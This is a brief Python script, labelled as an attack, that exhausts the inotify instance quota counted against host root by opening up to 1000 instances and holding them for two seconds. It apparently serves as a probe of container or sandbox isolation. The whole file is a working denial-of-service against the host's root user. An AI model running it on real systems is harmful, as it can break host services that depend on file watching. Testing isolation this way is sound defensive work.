# Attack: per-user kernel quotas are counted for the host uid, which is root's: take every inotify
# instance root may have (fs.inotify.max_user_instances) for a few seconds; the host's root gets none.
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
held = []
while len(held) < 1000:
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    held.append(fd)
print("INOTIFY held", len(held), "instances; next one failed with errno", ctypes.get_errno(), flush=True)
time.sleep(2)
